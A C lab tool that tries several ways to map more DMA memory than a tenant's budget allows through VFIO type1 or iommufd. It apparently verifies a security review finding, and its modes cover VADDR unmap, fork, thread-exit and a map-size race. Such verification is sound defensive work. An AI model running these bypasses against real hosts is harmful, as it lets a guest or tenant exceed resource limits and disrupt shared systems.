// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * dma_accounting: ways to map more than a tenant's max_dma_bytes through a legacy type1
 * container, or an iommufd IOAS with the device attached (--backend iommufd: map, fork
 * and thread-exit), without ever being refused (security review finding 4b-d). N is the
 * tenant's budget in pages; "the extra page" is one more page at a fresh IOVA, with
 * every earlier mapping still in the IOMMU. Expected from a correct enforcement: the
 * extra page is refused with EPERM (dma_limit).
 *
 *   dma_accounting map BDF [--pages N]    map N pages and exit without unmapping (the
 *                                         container's release drops them): the refund check
 *   dma_accounting vaddr BDF [--pages N]  map N, VFIO_DMA_UNMAP_FLAG_VADDR them (the IOMMU
 *                                         mappings stay), then the extra page
 *   dma_accounting fork BDF [--pages N]   a child maps N on the shared container and exits,
 *                                         a second child maps the extra page
 *   dma_accounting thread-exit BDF [--pages N]
 *                                         main maps N and pthread_exit()s; another thread
 *                                         maps the extra page once main is a zombie
 *   dma_accounting race BDF [--seconds S] a thread flips the map size between 4 KiB and
 *                                         1 MiB while main maps and unmaps one page
 *
 * Maps are one page each from IOVA A (--iova, default 1 MiB). Prints one JSON line
 * (lab_attack.h); exit status 0 only if no step failed.
 */
#include <getopt.h>
#include <pthread.h>
#include <signal.h>
#include <sys/wait.h>
#include <time.h>

#include "lab_attack.h"

#define RACE_BIG (1024 * 1024UL)

struct attack {
	const char *mode;
	const char *backend;
	const char *bdf;
	uint64_t iova;
	unsigned long pages;
	unsigned long seconds;
	unsigned long maps;
	/* Owned here, closed by backend_close() in main whichever step failed. */
	struct lab_type1 t;
	int iommufd, device;	/* --backend iommufd, -1 when not open */
	__u32 ioas_id;
	void *buf;		/* RACE_BIG bytes, enough for N + 1 pages too */
	struct report r;
};

static int ioas_map(struct attack *a, void *vaddr, uint64_t iova, uint64_t size)
{
	struct iommu_ioas_map map = {
		.size = sizeof(map),
		.flags = IOMMU_IOAS_MAP_FIXED_IOVA | IOMMU_IOAS_MAP_READABLE |
			 IOMMU_IOAS_MAP_WRITEABLE,
		.ioas_id = a->ioas_id,
		.user_va = (uintptr_t)vaddr,
		.length = size,
		.iova = iova,
	};

	return ioctl(a->iommufd, IOMMU_IOAS_MAP, &map) ? -errno : 0;
}

static int map_pages(struct attack *a, unsigned long first, unsigned long n, const char *step)
{
	unsigned long i;
	int err = 0;

	for (i = first; i < first + n && !err; i++) {
		void *vaddr = (char *)a->buf + i * LAB_PAGE;
		uint64_t iova = a->iova + i * LAB_PAGE;

		err = report_fail(&a->r, step, a->iommufd >= 0 ?
				  ioas_map(a, vaddr, iova, LAB_PAGE) :
				  lab_type1_map(a->t.container, vaddr, iova, LAB_PAGE));
		if (!err)
			a->maps++;
	}
	return err;
}

/* The edu device bound to /dev/iommu and attached to a fresh IOAS, as a VMM would. */
static int iommufd_open(struct attack *a)
{
	struct iommu_ioas_alloc alloc = { .size = sizeof(alloc) };
	struct vfio_device_bind_iommufd bind = { .argsz = sizeof(bind) };
	struct vfio_device_attach_iommufd_pt attach = { .argsz = sizeof(attach) };
	char path[PATH_MAX];
	int err;

	err = lab_cdev_path(a->bdf, path, sizeof(path));
	if (err)
		return report_fail(&a->r, "find_vfio_cdev", err);
	a->iommufd = open("/dev/iommu", O_RDWR);
	if (a->iommufd < 0)
		return report_fail(&a->r, "open_iommufd", -errno);
	a->device = open(path, O_RDWR);
	if (a->device < 0)
		return report_fail(&a->r, "open_vfio_cdev", -errno);
	bind.iommufd = a->iommufd;
	if (ioctl(a->device, VFIO_DEVICE_BIND_IOMMUFD, &bind))
		return report_fail(&a->r, "bind_iommufd", -errno);
	if (ioctl(a->iommufd, IOMMU_IOAS_ALLOC, &alloc))
		return report_fail(&a->r, "ioas_alloc", -errno);
	a->ioas_id = attach.pt_id = alloc.out_ioas_id;
	if (ioctl(a->device, VFIO_DEVICE_ATTACH_IOMMUFD_PT, &attach))
		return report_fail(&a->r, "attach_pt", -errno);
	return 0;
}

static int backend_open(struct attack *a)
{
	if (!strcmp(a->backend, "iommufd"))
		return iommufd_open(a);
	return lab_type1_open(&a->t, a->bdf, &a->r);
}

/* Closing every fd is what releases the mappings: the refund under test. */
static void backend_close(struct attack *a)
{
	lab_type1_close(&a->t);
	if (a->device >= 0)
		close(a->device);
	if (a->iommufd >= 0)
		close(a->iommufd);
	a->device = a->iommufd = -1;
}

static int map_extra(struct attack *a)
{
	return map_pages(a, a->pages, 1, "map_extra");
}

static int run_map(struct attack *a)
{
	return map_pages(a, 0, a->pages, "map_dma");
}

static int run_vaddr(struct attack *a)
{
	struct vfio_iommu_type1_dma_unmap unmap = {
		.argsz = sizeof(unmap),
		.flags = VFIO_DMA_UNMAP_FLAG_VADDR,
		.iova = a->iova,
		.size = a->pages * LAB_PAGE,
	};
	int ext, err;

	ext = ioctl(a->t.container, VFIO_CHECK_EXTENSION, VFIO_UPDATE_VADDR);
	report_bool(&a->r, "update_vaddr", ext > 0);
	if (ext <= 0)
		return report_fail(&a->r, "check_update_vaddr", ext < 0 ? -errno : -ENOTSUP);
	err = map_pages(a, 0, a->pages, "map_dma");
	if (err)
		return err;
	if (ioctl(a->t.container, VFIO_IOMMU_UNMAP_DMA, &unmap))
		return report_fail(&a->r, "unmap_vaddr", -errno);
	/* What type1 reports as unmapped, though the IOMMU still maps it all. */
	report_int(&a->r, "vaddr_unmapped_bytes", (long long)unmap.size);
	return map_extra(a);
}

/* Runs fn in a child sharing the container fd; returns its negative errno. */
static int in_child(struct attack *a, int (*fn)(struct attack *))
{
	int status;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (pid < 0)
		return -errno;
	if (pid == 0)
		_exit(-fn(a) & 0xff);
	if (waitpid(pid, &status, 0) < 0)
		return -errno;
	if (!WIFEXITED(status))
		return -EINTR;
	return -WEXITSTATUS(status);
}

static int run_fork(struct attack *a)
{
	int err;

	err = in_child(a, run_map);
	if (err)
		return report_fail(&a->r, "child_map_dma", err);
	report_int(&a->r, "child_maps", (long long)a->pages);
	return report_fail(&a->r, "map_extra", in_child(a, map_extra));
}

/* Whether the thread group leader has exited (zombie, threads still running). */
static bool leader_gone(pid_t tgid)
{
	char path[64], stat[512], *p;
	bool gone = false;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/task/%d/stat", (int)tgid, (int)tgid);
	f = fopen(path, "r");
	if (!f)
		return true;
	if (fgets(stat, sizeof(stat), f) && (p = strrchr(stat, ')')))
		gone = p[1] == ' ' && (p[2] == 'Z' || p[2] == 'X');
	fclose(f);
	return gone;
}

static void *after_leader(void *arg)
{
	struct attack *a = arg;
	pid_t tgid = getpid();
	int i, err;

	for (i = 0; i < 500 && !leader_gone(tgid); i++)
		usleep(10000);
	report_bool(&a->r, "leader_exited", leader_gone(tgid));
	err = map_extra(a);
	report_int(&a->r, "maps", (long long)a->maps);
	report_print(&a->r, "dma_accounting", a->mode);
	backend_close(a);
	exit(err ? 1 : 0);
}

/* Does not return when the thread starts: that thread reports and exits. */
static int run_thread_exit(struct attack *a)
{
	pthread_t thread;
	int err;

	err = map_pages(a, 0, a->pages, "map_dma");
	if (err)
		return err;
	err = pthread_create(&thread, NULL, after_leader, a);
	if (err)
		return report_fail(&a->r, "pthread_create", -err);
	pthread_exit(NULL);
}

struct race {
	struct vfio_iommu_type1_dma_map map;	/* the argument both threads share */
	volatile bool stop;
};

static void *flip_size(void *arg)
{
	struct race *race = arg;
	volatile __u64 *size = &race->map.size;

	while (!race->stop) {
		*size = RACE_BIG;
		*size = LAB_PAGE;
	}
	return NULL;
}

static int run_race(struct attack *a)
{
	struct race race = {
		.map = {
			.argsz = sizeof(race.map),
			.flags = VFIO_DMA_MAP_FLAG_READ | VFIO_DMA_MAP_FLAG_WRITE,
			.vaddr = (uintptr_t)a->buf,
			.iova = a->iova,
			.size = LAB_PAGE,
		},
	};
	unsigned long attempts = 0, won = 0;
	struct timespec now, end;
	pthread_t thread;
	int err;

	err = pthread_create(&thread, NULL, flip_size, &race);
	if (err)
		return report_fail(&a->r, "pthread_create", -err);
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += (time_t)a->seconds;
	do {
		struct vfio_iommu_type1_dma_unmap unmap = {
			.argsz = sizeof(unmap),
			.iova = a->iova,
			.size = RACE_BIG,
		};

		attempts++;
		if (ioctl(a->t.container, VFIO_IOMMU_MAP_DMA, &race.map) == 0)
			a->maps++;
		if (ioctl(a->t.container, VFIO_IOMMU_UNMAP_DMA, &unmap)) {
			err = report_fail(&a->r, "unmap_dma", -errno);
			break;
		}
		/* The kernel's own count: more than a page means it mapped the big size. */
		if (unmap.size > LAB_PAGE)
			won++;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec < end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec < end.tv_nsec));
	race.stop = true;
	pthread_join(thread, NULL);
	report_int(&a->r, "attempts", (long long)attempts);
	report_int(&a->r, "big_maps", (long long)won);
	return err;
}

static void usage(void)
{
	fprintf(stderr, "usage: dma_accounting map|vaddr|fork|thread-exit|race BDF "
		"[--backend type1|iommufd] [--pages N] [--iova A] [--seconds S]\n");
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{ "pages", required_argument, NULL, 'n' },
		{ "iova", required_argument, NULL, 'i' },
		{ "seconds", required_argument, NULL, 's' },
		{ "backend", required_argument, NULL, 'b' },
		{ 0 },
	};
	static const struct {
		const char *name;
		int (*fn)(struct attack *);
		bool iommufd;	/* also on --backend iommufd */
	} modes[] = {
		{ "map", run_map, true },
		{ "vaddr", run_vaddr, false },
		{ "fork", run_fork, true },
		{ "thread-exit", run_thread_exit, true },
		{ "race", run_race, false },
	};
	struct attack a = { .backend = "type1", .iova = 0x100000, .pages = 16, .seconds = 3,
			    .iommufd = -1, .device = -1,
			    .t = { .container = -1, .group = -1, .device = -1 } };
	int (*fn)(struct attack *) = NULL;
	int opt, err;
	size_t i;

	while ((opt = getopt_long(argc, argv, "", options, NULL)) != -1) {
		switch (opt) {
		case 'n':
			a.pages = strtoul(optarg, NULL, 0);
			break;
		case 'i':
			a.iova = strtoull(optarg, NULL, 0);
			break;
		case 's':
			a.seconds = strtoul(optarg, NULL, 0);
			break;
		case 'b':
			a.backend = optarg;
			break;
		default:
			usage();
			return 2;
		}
	}
	if (argc - optind != 2 || !a.pages || (a.pages + 1) * LAB_PAGE > RACE_BIG) {
		usage();
		return 2;
	}
	a.mode = argv[optind];
	a.bdf = argv[optind + 1];
	for (i = 0; i < sizeof(modes) / sizeof(modes[0]); i++)
		if (!strcmp(modes[i].name, a.mode) &&
		    (!strcmp(a.backend, "type1") ||
		     (!strcmp(a.backend, "iommufd") && modes[i].iommufd)))
			fn = modes[i].fn;
	if (!fn) {
		usage();
		return 2;
	}
	report_str(&a.r, "backend", a.backend);
	report_int(&a.r, "pages", (long long)a.pages);
	report_int(&a.r, "iova", (long long)a.iova);
	a.buf = lab_buffer(RACE_BIG);
	if (!a.buf) {
		err = report_fail(&a.r, "mmap_buffer", -errno);
		goto out;
	}
	err = backend_open(&a);
	if (!err)
		err = fn(&a);
	backend_close(&a);
	munmap(a.buf, RACE_BIG);
out:
	report_int(&a.r, "maps", (long long)a.maps);
	report_print(&a.r, "dma_accounting", a.mode);
	return err ? 1 : 0;
}
